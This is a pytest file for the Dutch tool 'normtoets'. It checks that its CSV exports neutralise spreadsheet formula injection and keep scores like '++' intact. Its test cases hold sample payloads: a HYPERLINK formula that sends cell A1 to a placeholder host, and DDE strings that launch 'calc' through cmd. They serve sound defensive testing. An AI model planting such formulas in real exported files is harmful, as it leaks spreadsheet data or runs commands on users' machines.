"""Every CSV normtoets writes is safe to open in a spreadsheet program: a field that would be
run as a formula gets a leading apostrophe (OWASP, "CSV Injection"), while a score of plus and
minus signs and a plain number read as themselves."""

import csv
import io
import shutil
from pathlib import Path

import pytest

from conftest import STUDY, Run
from normtoets.output.csvtext import csv_text, neutralised

HOSTILE = '=HYPERLINK("http://voorbeeld.invalid/?"&A1,"klik")'


@pytest.mark.parametrize(
    ("field", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+SUM(1+1)*cmd|' /C calc'!A0", "'+SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+", "+"),
        ("-", "-"),
        ("--", "--"),
        ("++", "++"),
        ("-0,125", "-0,125"),
        ("-1.5", "-1.5"),
        ("+12%", "+12%"),
        ("nb", "nb"),
        ("Aan de raad: = dat", "Aan de raad: = dat"),
        (3, "3"),
        (None, ""),
    ],
)
def test_a_field_is_neutralised_only_when_a_program_would_evaluate_it(
    field: object, written: str
) -> None:
    assert neutralised(field) == written


def test_csv_text_quotes_as_csv_does_after_neutralising() -> None:
    text = csv_text([["a", HOSTILE], ["--", "-0,5"]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "'" + HOSTILE], ["--", "-0,5"]]


@pytest.fixture
def study(tmp_path: Path) -> Path:
    folder = tmp_path / "studie"
    shutil.copytree(STUDY, folder)
    path = folder / "duiven.yaml"
    text = path.read_text(encoding="utf-8")
    start = "      Aan de raad: vraag aan het college om een meer uitgewerkt beleidskader"
    assert start in text
    formula = HOSTILE.replace('"', "'")  # single quotes: the YAML block keeps it as it is
    path.write_text(text.replace(start, f"      {formula} {start.strip()}", 1))
    return folder


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_aanbevelingen_csv_writes_a_formula_as_text(study: Path) -> None:
    result = Run(study)("aanbevelingen", ".", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout)
    formula = HOSTILE.replace('"', "'")
    assert any(c.startswith("'" + formula) for c in cells)
    assert not any(c.startswith(("=", "@")) for c in cells)


def test_compare_csv_keeps_scores_and_neutralises_names(study: Path) -> None:
    result = Run(study)("compare", ".", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    scores = {cell for row in rows[1:] for cell in row[3:6]}
    assert {"++", "+", "--"} <= scores  # as themselves: B1 of all three, B5 of Duiven
    assert not any(c.startswith("'") for row in rows for c in row)  # nothing else to change


def test_agree_csv_neutralises_a_rater_name(tmp_path: Path) -> None:
    folder = tmp_path / "dubbel"
    shutil.copytree(STUDY.parents[1] / "examples" / "dubbele-scoring" / "dubbel", folder)
    first = sorted(folder.glob("*.yaml"))[0]
    text = first.read_text(encoding="utf-8")
    rater = next(line for line in text.splitlines() if line.startswith("rater:"))
    first.write_text(text.replace(rater, 'rater: "@SUM(1+1)"'), encoding="utf-8")
    names = [p.name for p in sorted(folder.glob("*.yaml"))]
    result = Run(folder)("agree", *names, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    header = next(csv.reader(io.StringIO(result.stdout)))
    assert "'@SUM(1+1)" in header
